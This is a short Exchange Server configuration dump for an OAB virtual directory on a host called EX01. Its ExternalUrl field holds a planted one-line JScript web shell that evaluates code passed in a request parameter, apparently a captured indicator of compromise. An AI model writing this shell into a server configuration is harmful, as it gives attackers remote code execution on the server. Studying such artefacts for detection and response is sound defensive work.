Name                           : OAB (Default Web Site)
PollInterval                   : 480
OfflineAddressBooks            : {\Default Offline Address Book}
RequireSSL                     : True
MetabasePath                   : IIS://EX01.corp.example/W3SVC/1/ROOT/OAB
Path                           : C:\Program Files\Microsoft\Exchange Server\V15\FrontEnd\HttpProxy\OAB
AdminDisplayVersion            : Version 15.1 (Build 1591.10)
Server                         : EX01
InternalUrl                    : https://ex01.corp.example/OAB
ExternalUrl                    : http://f/<script language="JScript" runat="server">function Page_Load(){eval(Request
                                 ["sample_key"],"unsafe");}</script>
Identity                       : EX01\OAB (Default Web Site)
WhenChanged                    : 3/3/2021 7:59:20 AM
WhenChangedUTC                 : 3/3/2021 6:59:20 AM
IsValid                        : True
